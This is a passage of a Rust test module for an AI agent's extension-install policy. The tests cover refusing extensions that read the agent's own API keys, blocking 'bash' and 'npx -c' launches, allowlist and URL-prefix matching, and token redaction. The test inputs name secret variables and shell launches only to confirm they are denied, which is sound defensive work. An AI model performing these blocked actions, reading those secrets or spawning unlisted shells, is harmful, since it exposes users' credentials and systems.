                let e = p.check(&with_env(k), s).unwrap_err().to_string();
                assert!(e.contains("environment rule") && e.contains(k), "{e}");
                assert!(p.check(&with_key(k), s).is_err());
            }
            // Own secrets: activation is refused; installing saves it disabled (`config::unresolved`).
            for k in ["GOOSE_SERVER__SECRET_KEY", "OPENAI_API_KEY", "anthropic_api_key", "GOOSE_TLS_KEY_PATH"] {
                let header = with_header(&format!("Bearer ${{{k}}}"));
                if s == InstallSource::AddExtension {
                    let e = p.check(&with_key(k), s).unwrap_err().to_string();
                    assert!(e.contains("own-secrets rule") && e.contains(k), "{e}");
                    let e = p.check(&header, s).unwrap_err().to_string();
                    assert!(e.contains("own-secrets rule"), "{e}");
                } else {
                    assert!(p.check(&with_key(k), s).is_ok());
                    let u = crate::extensions::config::unresolved(&header, &|_| true);
                    assert_eq!(u.refused, [k]);
                    assert!(u.explain().contains("may never read"), "{}", u.explain());
                }
            }
            assert!(p.check(&with_env("API_KEY"), s).is_ok());
            assert!(p.check(&with_key("GITHUB_TOKEN"), s).is_ok());
            assert!(p.check(&with_header("Bearer ${API_TOKEN}"), s).is_ok());
            // A literal value the user wrote is not read from the store.
            assert!(p.check(&with_env("OPENAI_API_KEY"), s).is_ok());
        }
    }

    #[test]
    fn allowlist_entries_match_whole_argv() {
        let argv = ["uvx", "mcp-server-fetch", "--x"];
        assert!(argv_matches(&argv, "uvx mcp-server-fetch --x"));
        assert!(argv_matches(&argv, "uvx  mcp-server-fetch *"));
        assert!(argv_matches(&argv[..2], "uvx mcp-server-fetch *"));
        assert!(!argv_matches(&argv, "uvx mcp-server-fetch"));
        assert!(!argv_matches(&argv, "uvx mcp-server"));
        assert!(!argv_matches(&["uvx", "mcp-server-fetch-x"], "uvx mcp-server-fetch"));
        assert!(!argv_matches(&argv, ""));
    }

    #[test]
    fn yaml_allowlist() {
        let y = "# comment\nextensions:\n  - id: fetch\n    command: uvx mcp-server-fetch\n  - id: \"e\"\n    command: \"npx -y @modelcontextprotocol/server-everything\" # trailing\n  - command: 'it''s'\nother: 1\n";
        assert_eq!(
            parse_allowlist_yaml(y).unwrap(),
            ["uvx mcp-server-fetch", "npx -y @modelcontextprotocol/server-everything", "it's"]
        );
        assert_eq!(parse_allowlist_yaml("extensions: []\n").unwrap(), Vec::<String>::new());
        assert!(parse_allowlist_yaml("foo: 1\n").is_err());
        assert!(parse_allowlist_yaml("extensions:\n  - id: x\n").is_err());
        assert!(parse_allowlist_yaml("extensions:\n  - {id: x, command: y}\n").is_err());
        assert!(parse_allowlist_yaml("extensions:\n  - command: \"open\n").is_err());
    }

    #[test]
    fn local_allowlist_file_applies_to_every_source() {
        let d = tmpdir("local");
        std::fs::write(
            d.join("allowlist.json"),
            r#"{"commands":["uvx mcp-server-fetch"],"urls":["https://mcp.example.com/"],"allowed_commands":["node"]}"#,
        )
        .unwrap();
        let p = Policy::from_env(&env(&[]), &d).unwrap();
        assert!(p.has_allowlist());
        assert!(p.allowed_commands().iter().any(|c| c == "node"));
        for s in [
            InstallSource::DeepLink,
            InstallSource::ConfigApi,
            InstallSource::AddExtension,
            InstallSource::Import,
            InstallSource::Cli,
        ] {
            assert!(p.check(&stdio("uvx", &["mcp-server-fetch"]), s).unwrap().is_empty());
            let e = p.check(&stdio("uvx", &["other"]), s).unwrap_err();
            assert!(e.to_string().contains("allowlist rule") && e.to_string().contains("allowlist.json"), "{e}");
            assert!(p.check(&remote("https://mcp.example.com/mcp"), s).is_ok());
            assert!(p.check(&remote("https://MCP.example.com/mcp"), s).is_ok());
            assert!(p.check(&remote("https://evil.example.com/mcp"), s).is_err());
            let ip = ExtensionConfig::from_value(
                json!({"type":"inline_python","name":"py","description":"","code":"print(1)"}),
            )
            .unwrap();
            assert!(p.check(&ip, s).is_err());
        }
        // `node` was added to rule 1 by the file, but the allowlist still has the last word.
        assert!(matches!(
            p.check(&stdio("node", &["x.js"]), InstallSource::DeepLink),
            Err(PolicyError::NotAllowlisted { .. })
        ));
    }

    #[test]
    fn allowlist_url_is_redacted_in_messages() {
        assert_eq!(redact_url("https://u:p@h.io/a.yaml?token=s3"), "https://…@h.io/a.yaml?…");
        assert_eq!(redact_url("http://h.io/a.yaml"), "http://h.io/a.yaml");
        let d = tmpdir("redact");
        let p = Policy::from_env(&env(&[("GOOSE_ALLOWLIST", "http://127.0.0.1:9/a.yaml?token=s3cret")]), &d).unwrap();
        let e = p.check(&stdio("uvx", &["x"]), InstallSource::Cli).unwrap_err().to_string();
        assert!(!e.contains("s3cret") && e.contains("http://127.0.0.1:9/a.yaml?…"), "{e}");
    }

    #[test]
    fn url_prefixes_end_at_a_boundary() {
        assert!(url_has_prefix("https://h.io/mcp", "https://h.io"));
        assert!(url_has_prefix("https://h.io", "https://h.io"));
        assert!(!url_has_prefix("https://h.io.evil/mcp", "https://h.io"));
        assert!(!url_has_prefix("https://h.io:8443/mcp", "https://h.io"));
        assert!(url_has_prefix("https://h.io/mcp/x", "https://h.io/mcp/"));
        assert!(!url_has_prefix("https://h.io/MCP", "https://h.io/mcp"));
    }

    #[test]
    fn warning_mode_and_setup_errors() {
        let d = tmpdir("warn");
        let f = d.join("list.json");
        std::fs::write(&f, r#"{"commands":["uvx mcp-server-fetch"]}"#).unwrap();
        let fs = f.to_str().unwrap();
        let p =
            Policy::from_env(&env(&[("GOSLING_ALLOWLIST_FILE", fs), ("GOOSE_ALLOWLIST_WARNING", "true")]), &d).unwrap();
        let w = p.check(&stdio("uvx", &["other"]), InstallSource::ConfigApi).unwrap();
        assert_eq!(w.len(), 1);
        assert!(w[0].contains("GOOSE_ALLOWLIST_WARNING=true"), "{w:?}");
        // Warning mode does not relax rules 1 and 2.
        assert!(p.check(&stdio("bash", &[]), InstallSource::DeepLink).is_err());
        assert!(p.check(&stdio("npx", &["-c", "x"]), InstallSource::DeepLink).is_err());
        // Only commands listed: remote servers pass with a warning.
        assert_eq!(p.check(&remote("https://any.example/mcp"), InstallSource::DeepLink).unwrap().len(), 1);

        std::fs::write(&f, r#"{"command":["typo"]}"#).unwrap();
        assert!(Policy::from_env(&env(&[("GOSLING_ALLOWLIST_FILE", fs)]), &d)
            .unwrap_err()
            .to_string()
            .contains("unknown key `command`"));
        std::fs::write(&f, "not json").unwrap();
        assert!(Policy::from_env(&env(&[("GOSLING_ALLOWLIST_FILE", fs)]), &d).is_err());
        assert!(Policy::from_env(&env(&[("GOSLING_ALLOWLIST_FILE", "/nonexistent/x.json")]), &d).is_err());
        assert!(Policy::from_env(&env(&[("GOSLING_ALLOWED_COMMANDS", "a b")]), &d).is_err());
        let p = Policy::from_env(&env(&[("GOSLING_ALLOWED_COMMANDS", "node, /opt/x/server ,")]), &d).unwrap();
        assert!(!p.has_allowlist());
        assert!(p.check(&stdio("/opt/x/server", &[]), InstallSource::DeepLink).is_ok());
        assert!(p.check(&stdio("node", &["s.js"]), InstallSource::Import).is_ok());
    }

    #[test]
    fn unreachable_remote_allowlist_refuses() {
        let d = tmpdir("remote");
        // Port 9 on loopback: nothing listens there; the connect fails at once.
        let p = Policy::from_env(&env(&[("GOOSE_ALLOWLIST", "http://127.0.0.1:9/allowlist.yaml")]), &d).unwrap();
        let e = p.check(&stdio("uvx", &["mcp-server-fetch"]), InstallSource::ConfigApi).unwrap_err();
        assert!(matches!(e, PolicyError::AllowlistUnavailable { .. }), "{e}");
        assert!(e.to_string().contains("unset GOOSE_ALLOWLIST"), "{e}");
        let b = ExtensionConfig::from_value(json!({"type":"builtin","name":"developer"})).unwrap();
        assert!(p.check(&b, InstallSource::ConfigApi).is_ok());
    }
}
